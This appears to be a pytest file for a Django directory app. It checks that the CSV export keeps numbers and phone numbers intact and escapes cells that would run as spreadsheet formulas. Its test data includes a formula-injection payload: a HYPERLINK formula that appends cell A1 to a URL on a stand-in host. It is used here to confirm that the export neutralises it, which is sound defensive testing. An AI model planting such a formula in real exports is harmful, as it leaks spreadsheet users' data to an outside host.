"""The CSV exports as a spreadsheet reads them: numeric columns are numbers (a negative
longitude included), phone numbers are left as written, text that would run as a formula
is neutralised."""

import csv
import io

import pytest
from django.urls import reverse

from maillage.directory.tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://exemple.org/?"&A1,"Cliquez")'


def _rows(client, key: str) -> list[dict]:
    response = client.get(reverse("opendata:export_csv", args=[key]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def test_numbers_stay_numbers_and_formulas_are_neutralised(client):
    OrganisationFactory(
        name=FORMULA,
        presentation="- une liste qui commence par un tiret",
        latitude=47.22,
        longitude=-0.41,
        phone="+33 6 12 34 56 78",
        phone_visibility="public",
    )
    (row,) = _rows(client, "structures")

    assert float(row["longitude"]) == -0.41
    assert float(row["latitude"]) == 47.22
    assert int(row["id"]) > 0
    assert row["longitude"] == "-0.41"
    assert row["phone"] == "+33 6 12 34 56 78"
    assert row["name"] == "'" + FORMULA
    assert row["presentation"] == "'- une liste qui commence par un tiret"
    # No other cell starts like a formula, unless it is made of digits (a number, a phone).
    for value in row.values():
        if value[:1] in ("=", "+", "-", "@"):
            assert set(value) <= set("0123456789 +-.,()/"), value
